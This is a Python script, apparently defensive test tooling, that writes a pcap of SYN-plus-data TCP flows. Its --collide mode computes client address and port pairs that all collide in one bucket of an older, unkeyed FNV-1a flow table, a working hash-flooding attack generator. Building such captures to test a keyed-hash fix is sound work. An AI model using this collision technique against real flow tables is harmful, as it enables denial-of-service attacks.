"""Attack capture: N TCP flows from N distinct (client address, port) pairs
to 10.0.0.1:5555, each a SYN then a 32-byte data segment. With --collide
the pairs are chosen so that every flow falls in the same bucket of the
flow table as it was before it was keyed: 32-bit FNV-1a over (proto, the
lower endpoint, the higher endpoint) folded with h ^ (h >> 15), 65,536
buckets (the default max_flows). Without --collide the clients are
consecutive addresses: the ordinary capture of the same size.
Usage: syn_flood.py [--collide] N OUT.pcap"""
import struct
import sys

from floodlib import FNV_OFFSET, FNV_PRIME, FNV_PRIME_INV, M32, Pcap, fnv, ipv4, tcp

SERVER = bytes([10, 0, 0, 1])
SPORT = 5555
BUCKET = 0x1234  # any bucket will do
MASK = 0xFFFF  # 65,536 buckets: max_flows 65536 (and every smaller power of two)


def old_bucket(client, cport):
    """The bucket core/flow.c chose for the flow (before keying)."""
    h = FNV_OFFSET ^ 6
    h = fnv(h, SERVER + bytes(12))
    h = fnv(h, struct.pack('<H', SPORT))
    h = fnv(h, bytes(client) + bytes(12))
    h = fnv(h, struct.pack('<H', cport))
    h ^= h >> 15
    return h & MASK


def colliding(n):
    """Yields n (client address, client port) pairs in bucket BUCKET.

    The client endpoint is hashed last: t = the state after its address,
    then h = ((((t ^ plo) * P) ^ phi) * P). The final values in BUCKET are
    2^16 (one for each top half); undoing the last multiplication gives the
    values X that w ^ phi must take, with w = (t ^ plo) * P. Indexing X by
    their top 24 bits, each of the 256 values of plo is checked with one
    lookup, and phi follows: about one port per client address."""
    finals = []
    for hi in range(1 << 16):
        x = (BUCKET ^ (hi << 1)) & 0xFFFE
        lo = x | ((BUCKET & 1) ^ (x >> 15))
        finals.append((hi << 16) | lo)
    index = {}
    for v in finals:
        x = (v * FNV_PRIME_INV) & M32
        index.setdefault(x >> 8, []).append(x)
    pre = fnv(fnv(FNV_OFFSET ^ 6, SERVER + bytes(12)), struct.pack('<H', SPORT))
    p12 = pow(FNV_PRIME, 12, 1 << 32)
    got = 0
    for a in range(1 << 24):
        client = [10, 1 + (a >> 16), (a >> 8) & 255, a & 255]
        t = (fnv(pre, client) * p12) & M32
        for plo in range(256):
            w = ((t ^ plo) * FNV_PRIME) & M32
            xs = index.get(w >> 8)
            if not xs:
                continue
            for x in xs:
                port = plo | (((w ^ x) & 0xFF) << 8)
                if port < 1024:
                    continue
                yield client, port
                got += 1
                if got == n:
                    return


def ordinary(n):
    for i in range(n):
        yield [10, 1 + (i >> 16), (i >> 8) & 255, i & 255], 20000 + (i % 40000)


def main():
    args = sys.argv[1:]
    collide = '--collide' in args
    args = [a for a in args if a != '--collide']
    n, out = int(args[0]), args[1]
    cap = Pcap(out)
    for k, (client, cport) in enumerate(colliding(n) if collide else ordinary(n)):
        if collide and k < 16:
            assert old_bucket(client, cport) == BUCKET
        cap.write(ipv4(client, SERVER, 6, tcp(cport, SPORT, 1000, 0, 0x02)))
        cap.write(ipv4(client, SERVER, 6, tcp(cport, SPORT, 1001, 0, 0x18, b'x' * 32)))
    cap.close()


if __name__ == '__main__':
    main()
